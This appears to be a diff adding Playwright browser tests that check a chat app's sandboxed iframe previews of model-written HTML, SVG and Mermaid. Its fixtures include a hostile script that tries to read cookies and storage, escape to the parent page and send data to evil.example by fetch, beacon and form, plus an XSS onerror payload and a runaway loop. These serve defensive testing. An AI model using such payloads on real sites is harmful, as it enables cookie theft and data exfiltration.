@@ -1,0 +1,166 @@
+"""Previews of what models write: shown in a frame that reaches nothing, and closed at once."""
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.chats import ChatPage
+from tests.browser.conftest import Visit
+from tests.support.server import Server
+from tests.upstream.handle import Upstream
+
+pytestmark = pytest.mark.slow
+HELLO = "```html\n<p id=said>not run</p><script>said.textContent = 'It runs: ' + origin</script>\n```\n\n"
+ENDLESS = "```html\n<script>parent.postMessage('begun', '*'); setTimeout(() => { for (;;); })</script>\n```\n\n"
+PICTURE = '```svg\n<svg viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>\n```\n'
+DIAGRAM = "```mermaid\ngraph TD\n  A[Head race] --> B{Wheel?}\n  B -->|turns| C[Tail race]\n```\n\n"
+BROKEN = "```mermaid\ngraph TD\n  A[[[ --> <img src=x onerror=alert(1)>\n```\n\n"
+# Whatever a script in a frame may try to reach somebody; each try says in the title of its frame that it was refused.
+HOSTILE = """```html
+<p id=said>tries</p><form id=f action="https://evil.example/form" method=post target=_top></form>
+<img src="https://evil.example/picture"><link rel=stylesheet href="https://evil.example/sheet">
+<script src="https://evil.example/script"></script>
+<script>
+const tried = [];
+const attempt = (name, act) => {
+  try { const came = act(); tried.push(name + ': ' + came) } catch (error) { tried.push(name + ': no') }
+};
+attempt('cookie', () => document.cookie);
+attempt('storage', () => localStorage.length);
+attempt('parent', () => parent.document.title);
+attempt('top', () => { top.location = 'https://evil.example/top'; });
+attempt('popup', () => open('https://evil.example/popup'));
+attempt('form', () => f.submit());
+attempt('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
+fetch('https://evil.example/fetch').catch(() => tried.push('fetch: no')).finally(() => { said.textContent = tried.join(', '); });
+setTimeout(() => { location = 'https://evil.example/self'; }, 300);
+</script>
+```
+"""
+
+
+def shown(server: Server, upstream: Upstream, visit: Visit, text: str, **options: object) -> ChatPage:
+    upstream.says(text)
+    chat = visit(server, **options).begin("Show me")
+    chat.expect("completed")
+    # It is told last, with the answer in a fresh element.
+    expect(chat.page.locator(".sent-link")).to_be_attached()
+    return chat
+
+
+def test_what_is_opened_at_the_end_stays_under_the_pointer(server: Server, upstream: Upstream, visit: Visit) -> None:
+    chat = shown(server, upstream, visit, "Around the mill.\n\n" * 20 + HELLO + "The end.")
+    page, link = chat.page, chat.answer.locator("a.view")
+    page.wait_for_function("() => document.documentElement.scrollHeight - innerHeight - scrollY < 2")
+    before = link.bounding_box()
+    link.click()
+    expect(page.frame_locator("iframe").locator("#said")).to_have_text("It runs: null")
+    # Whatever follows the end has done so with the next picture.
+    page.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
+    after = link.bounding_box()
+    assert before
+    assert after
+    assert abs(after["y"] - before["y"]) < 2
+
+
+def test_a_page_and_a_picture_are_shown_and_closed(server: Server, upstream: Upstream, visit: Visit) -> None:
+    chat = shown(server, upstream, visit, HELLO + PICTURE)
+    page, links = chat.page, chat.answer.locator("a.view")
+    expect(links).to_have_count(2)
+    links.first.click()
+    expect(page.frame_locator("iframe").locator("#said")).to_have_text("It runs: null")
+    links.first.click()
+    expect(page.locator("iframe")).to_have_count(0)
+    links.last.focus()
+    page.keyboard.press("Enter")
+    expect(page.frame_locator("iframe").locator("circle")).to_be_visible()
+    expect(links.last).to_have_text("Close preview")
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_a_script_that_never_ends_holds_up_its_frame_alone(server: Server, upstream: Upstream, visit: Visit) -> None:
+    """Chromium gives a frame without an origin a process of its own."""
+    chat = shown(server, upstream, visit, ENDLESS)
+    page, link = chat.page, chat.answer.locator("a.view")
+    page.evaluate("addEventListener('message', ({data}) => { document.body.dataset.said = data; })")
+    link.click()
+    expect(page.locator("body")).to_have_attribute("data-said", "begun")
+    # Many turns of the page, of which it would have none.
+    page.evaluate("(async () => { for (let n = 0; n < 50; n++) await new Promise(setTimeout); })()")
+    chat.box.fill("Still here")
+    link.click()
+    expect(page.locator("iframe")).to_have_count(0)
+
+
+def test_without_scripts_its_link_leads_to_a_page(server: Server, upstream: Upstream, visit: Visit) -> None:
+    chat = shown(server, upstream, visit, PICTURE)
+    page = visit(server, java_script_enabled=False, viewport={"width": 390, "height": 844}).open(chat.path)
+    page.get_by_role("link", name="Preview").click()
+    expect(page.frame_locator("iframe").locator("circle")).to_be_visible()
+    page.get_by_role("link", name="Back to the chat").click()
+    assert chat.path in page.url
+
+
+def test_a_hostile_page_reaches_nobody(server: Server, upstream: Upstream, visit: Visit) -> None:
+    upstream.says(HOSTILE)
+    person = visit(server)
+    chat = person.begin("Show me")
+    chat.expect("completed")
+    asked: list[str] = []
+    # What the browser would send is seen here, and goes nowhere.
+    person.context.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
+    here = chat.page.url
+    chat.answer.locator("a.view").click()
+    said = chat.page.frame_locator("iframe").locator("#said")
+    expect(said).to_contain_text("fetch: no")
+    words = said.text_content() or ""
+    for name in ("cookie", "storage", "parent", "top"):
+        assert f"{name}: no" in words, words
+    assert "popup: null" in words
+    chat.page.wait_for_timeout(1_000)
+    assert (asked, chat.page.url, len(person.context.pages)) == ([], here, 1)
+    person.oddities.clear()
+
+
+def test_the_frame_by_itself_is_not_opened(server: Server, upstream: Upstream, visit: Visit) -> None:
+    chat = shown(server, upstream, visit, HELLO)
+    address = str(chat.answer.locator("a.view").get_attribute("href"))
+    chat.page.goto(address.replace("/preview?", "/frame?"))
+    expect(chat.page.get_by_role("heading", name="Preview")).to_be_visible()
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1100, 390])
+def test_a_diagram_is_drawn(server: Server, upstream: Upstream, visit: Visit, scheme: str, width: int) -> None:
+    chat = shown(server, upstream, visit, DIAGRAM, color_scheme=scheme, viewport={"width": width, "height": 800})
+    assert not chat.page.evaluate("performance.getEntriesByType('resource').some(({name}) => name.includes('mermaid'))")
+    asked: list[str] = []
+    chat.page.on("request", lambda request: asked.append(request.url))
+    # A page that nothing is swapped in.
+    chat.page.goto(str(chat.answer.locator("a.view").get_attribute("href")))
+    frame = chat.page.frame_locator("iframe")
+    expect(frame.locator("svg").get_by_text("Tail race")).to_be_visible(timeout=60_000)
+    expect(frame.locator("#source")).to_be_hidden()
+    assert len([each for each in asked if "/static/vendor/mermaid.min.js" in each]) == 1
+    assert all(each.startswith(server.url) for each in asked)
+    assert frame.locator("body").evaluate("() => matchMedia('(prefers-color-scheme: dark)').matches") == (scheme == "dark")
+    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_a_diagram_that_cannot_be_drawn_says_so(server: Server, upstream: Upstream, visit: Visit) -> None:
+    chat = shown(server, upstream, visit, BROKEN + "```mermaid\ngraph TD\n" + "  A --> B\n" * 6_000 + "```\n")
+    addresses = [str(link.get_attribute("href")) for link in chat.answer.locator("a.view").all()]
+    for address, words in zip(addresses, ("couldn't be drawn", "too long to be drawn"), strict=True):
+        chat.page.goto(address)
+        frame = chat.page.frame_locator("iframe")
+        expect(frame.locator("#said")).to_contain_text(words, timeout=60_000)
+        expect(frame.locator("#source")).to_contain_text("graph TD")
+        expect(frame.locator("svg, img")).to_have_count(0)
+
+
+def test_without_scripts_the_source_of_a_diagram_is_shown(server: Server, upstream: Upstream, visit: Visit) -> None:
+    chat = shown(server, upstream, visit, DIAGRAM)
+    page = visit(server, java_script_enabled=False, viewport={"width": 390, "height": 844}).open(chat.path)
+    page.get_by_role("link", name="Preview").click()
+    frame = page.frame_locator("iframe")
+    expect(frame.get_by_text("This diagram needs JavaScript.")).to_be_visible()
+    expect(frame.locator("#source")).to_contain_text("A[Head race] --> B")
